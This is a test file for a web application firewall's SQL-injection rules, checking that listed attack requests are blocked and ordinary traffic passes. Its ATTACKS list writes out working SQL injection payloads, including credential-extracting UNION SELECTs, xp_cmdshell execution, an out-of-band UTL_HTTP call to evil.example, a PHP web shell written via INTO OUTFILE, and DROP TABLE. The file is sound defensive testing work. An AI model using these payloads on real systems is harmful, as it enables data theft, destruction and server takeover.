import test from "ava";
import { belongsToLevel, checkRules, fieldPart, multipartBody, multipartType, namedCases, ruleFile, showIdTargetMatch, testBlocks, testPasses, xmlText, type Headers, type WafInput } from "./support.js";

const file = ruleFile("142-sqli.yaml");

const UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
const BROWSER: Headers = [
  ["host", "shop.example.com"],
  ["user-agent", UA],
  ["accept", "text/html,application/xhtml+xml,*/*;q=0.8"],
  ["referer", "https://shop.example.com/catalog?page=2&sort=price"],
  ["cookie", "sessionid=8f14e45fceea167a5a36dedd4bea2543; _ga=GA1.2.1234567890.1700000000; theme=dark"],
];

/** A browser-like request; `headers` replace same-named browser headers. */
function req(method: string, uri: string, headers: Headers = [], body?: string): WafInput {
  const names = new Set(headers.map(([k]) => k));
  const all: Headers = [...BROWSER.filter(([k]) => !names.has(k)), ...headers];
  return body === undefined ? { method, uri, protocol: "HTTP/1.1", headers: all } : { method, uri, protocol: "HTTP/1.1", headers: all, body: Buffer.from(body, "utf8") };
}
const get = (uri: string, headers: Headers = []): WafInput => req("GET", uri, headers);
const q = (value: string): WafInput => get(`/search?q=${encodeURIComponent(value)}`);
const form = (body: string): WafInput => req("POST", "/account", [["content-type", "application/x-www-form-urlencoded"]], body);
const formValue = (name: string, value: string): WafInput => form(`${name}=${encodeURIComponent(value)}&submit=Save`);
const json = (value: unknown): WafInput => req("POST", "/api/v1/items", [["content-type", "application/json"]], JSON.stringify(value));
const xml = (text: string): WafInput => req("POST", "/soap", [["content-type", "application/xml"]], `<?xml version="1.0"?><order><note>${xmlText(text)}</note></order>`);
const cookie = (value: string): WafInput => get("/", [["cookie", `sessionid=8f14e45f; prefs=${value}`]]);
const B = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
const multipart = (field: string, value: string): WafInput => req("POST", "/upload", [["content-type", multipartType(B)]], multipartBody(B, [fieldPart(field, value)]));

// [what, request, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [string, WafInput, number])[] = [
  ["quote tautology in a query", get("/items?id=1%27%20OR%20%27a%27%3D%27a"), 1],
  ["UNION SELECT split by comments", q("-7/**/UNION/**/ALL/**/SELECT/**/username,password/**/FROM/**/users--"), 1],
  ["UNION SELECT with tab, newline and mixed case", get("/items?id=1%09UnIoN%0aSeLeCt%091,2,3"), 1],
  ["double URL-encoded tautology", get("/items?id=1%2527%2520OR%25201%253D1--"), 1],
  ["time-based blind with SLEEP in a form", formValue("user", "admin' AND SLEEP(5)-- -"), 1],
  ["MSSQL WAITFOR DELAY after a stacked query", formValue("q", "1; WAITFOR DELAY '0:0:5'--"), 1],
  ["PostgreSQL pg_sleep in a JSON value", json({ filter: { name: "x'||(SELECT pg_sleep(10))||'" } }), 1],
  ["information_schema in a JSON value", json({ sort: "name, (SELECT table_name FROM information_schema.tables LIMIT 1)" }), 1],
  ["injection in a JSON key", json({ "name') OR ('x'='x": "y" }), 1],
  ["error-based extractvalue in an encoded cookie", cookie("abc%27%20AND%20extractvalue(1,concat(0x7e,version()))--"), 1],
  ["pg_sleep in the User-Agent", get("/", [["user-agent", "Mozilla/5.0' AND (SELECT 1 FROM pg_sleep(5))--"]]), 1],
  ["WAITFOR in the Referer", get("/", [["referer", "https://example.com/?q=1' waitfor delay '0:0:10'--"]]), 1],
  ["xp_cmdshell through EXEC master..", formValue("cmd", "1;EXEC master..xp_cmdshell 'dir c:\\'"), 1],
  ["Oracle UTL_HTTP out-of-band request", q("1'||UTL_HTTP.REQUEST('http://evil.example/'||(SELECT user FROM dual))||'"), 1],
  ["web shell written INTO OUTFILE", q("1 UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'"), 1],
  ["SQLite catalogue probe", q("1 AND (SELECT count(name) FROM sqlite_master)>0"), 1],
  ["PostgreSQL cast error leak", q("(SELECT password FROM users LIMIT 1)::int"), 1],
  ["PostgreSQL JSON containment on a literal", q(`x' OR '{"role":"admin"}'::jsonb @> '{"role":"admin"}`), 1],
  ["MySQL versioned comments", q("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"), 1],
  ["stacked DROP TABLE", formValue("name", "x'; DROP TABLE users; --"), 1],
  ["updatexml in an XML body", xml("1 and updatexml(1,concat(0x7e,(select user())),1)"), 1],
  ["comment-out authentication bypass", form("username=admin%27--&password=x"), 1],
  ["@@version probe", q("1 and @@version like '8%'"), 1],
  ["string built from CHAR() codes", json({ q: "CHAR(115)||CHR(101)||CHR(108)" }), 1],
  ["integer overflow value", get("/transfer?amount=9223372036854775808"), 1],
  ["BENCHMARK in the URL path", get("/report/1%20and%20benchmark(5000000,md5(1))"), 1],
  ["UNION SELECT in a multipart field", multipart("comment", "1' UNION SELECT null,null--"), 1],
  ["MSSQL dynamic SQL with DECLARE @", formValue("q", "1;DECLARE @x varchar(99);SET @x=0x77616974666f72;EXEC(@x)"), 1],
  ["MySQL scientific-notation obfuscation", q("0.e(select 1)"), 1],
  ["quote closed, then ;", formValue("email", "admin@example.com';"), 1],
  ["OR TRUE hidden behind a comment", q("9999 or /* hint */ true"), 1],
  ["CASE WHEN boolean blind", q("(CASE WHEN (1=1) THEN 1 ELSE 0 END)"), 1],
  ["ALTER TABLE statement", formValue("sql", "ALTER TABLE `users` ADD `is_admin` TINYINT"), 1],
  ["comparison chained with || (PL2 operator)", q("price >= 10 || 1"), 2],
  ["IN list of literals", q("status in (1, 2, 3)"), 2],
  ["bare SQL function call", q("floor("), 2],
  ["ORDER BY probe", q("ORDER BY 3"), 2],
  ["hexadecimal literal", q("0x61646d696e"), 2],
  ["twelve SQL special characters", q("!@#$%^&*()[]{}"), 2],
  ["tautology in the URL path", get("/users/1%20OR%201%3D1"), 2],
  ["SQL statement in a custom header", get("/", [["x-filter", "1; DELETE FROM users WHERE 1=1"]]), 2],
  ["six SQL special characters", q("a!b@c#d$e%f^"), 3],
  ["two SQL special characters", q("a!b@"), 4],
];

testBlocks(file, namedCases(ATTACKS), { show: showIdTargetMatch, lower: belongsToLevel(showIdTargetMatch, false) });

// Ordinary traffic that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [string, WafInput, boolean])[] = [
  ["browser page view with cookies", get("/products/blue-shoes?size=42&color=navy"), true],
  ["Irish and Italian surnames", form("first=Se%C3%A1n&last=O%27Brien&maiden=D%27Angelo"), true],
  ["possessives and quoted words", formValue("review", "The boys' toys and the girls' dolls were 'fine', really"), false],
  ["prose with parentheses and a semicolon", formValue("bio", "I like hiking (mostly in the Alps); photography too!"), true],
  ["search for union station", q("union station chicago"), true],
  ["search with SQL words in prose", q("how to create table in excel and drop shipping"), true],
  ["select committee search", q("select committee on intelligence"), true],
  ["European Union selected", q("The European Union selected 5 candidates from 10 countries"), true],
  ["case when ... then in prose", q("in case when you are done then call me"), true],
  ["group by ... having in prose", q("group by age having fun"), true],
  ["e-mail, phone and price", form("email=jane%40example.com&phone=%2B1+(555)+123-4567&price=%2419.99"), true],
  ["JSON API order", json({ customer: { id: 1234, name: "Ana María López" }, items: [{ sku: "SKU-123", qty: 2 }], note: "Leave at the door; ring twice." }), true],
  ["JavaScript in a code-review comment", formValue("comment", "use arr.concat(other).map(x => x.trim()) instead"), false],
  ["CSS in a theme field", formValue("css", "font-family: 'Arial'; color: red"), false],
  ["markdown with a command and a dash", formValue("body", "Run `npm install` -- then open the app"), false],
  ["ISO timestamp and UUID", get("/events?since=2024-01-01T10:00:00Z&id=550e8400-e29b-41d4-a716-446655440000"), true],
  ["bearer token and JWT cookie", get("/api/me", [["authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"], ["cookie", "jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"]]), true],
  ["sparse fieldsets and sorting", get("/api/items?fields=id,name,price&sort=-created_at&filter%5Bstatus%5D=active"), true],
  ["multipart upload with a title", multipart("title", "Holiday photos (2024) - beach & mountains"), true],
  ["XML order body", xml("Deliver to Ms. O'Hara, 2nd floor (left door)"), false],
  ["Googlebot user agent", get("/", [["user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"]]), true],
  ["meeting note with time and room", formValue("note", "Meeting @ 10:00; room 4B -- bring snacks"), false],
  ["version and math in prose", q("version 1.2.3 (beta) is 5 >= 3 times faster"), false],
  ["mysql host name", q("mysql.db.example.com"), true],
  ["a sleep question", q("I sleep (a lot) on weekends"), false],
];

testPasses(file, namedCases(BENIGN), showIdTargetMatch);

test("the logged match names the value and the matched text", (t) => {
  const v = file.verdict(1, q("1 UNION SELECT password FROM users"));
  const m = v.matches.find((x) => x.id === 142120);
  t.truthy(m, showIdTargetMatch(v));
  t.is(m!.target, "args:q");
  t.regex(m!.match, /union select/);
});

test("every rule is in the file's id range, tagged and at a paranoia level", (t) => {
  t.true(file.rules.length >= 15);
  checkRules(t, file, ["attack-sqli", "owasp-a03"]);
  for (const r of file.rules) t.true(r.paranoia >= 1 && r.paranoia <= 4, String(r.id));
  const pl1 = file.rules.filter((r) => r.paranoia === 1).length;
  t.true(pl1 >= 5 && pl1 <= 10, `PL1 rules: ${pl1}`);
});
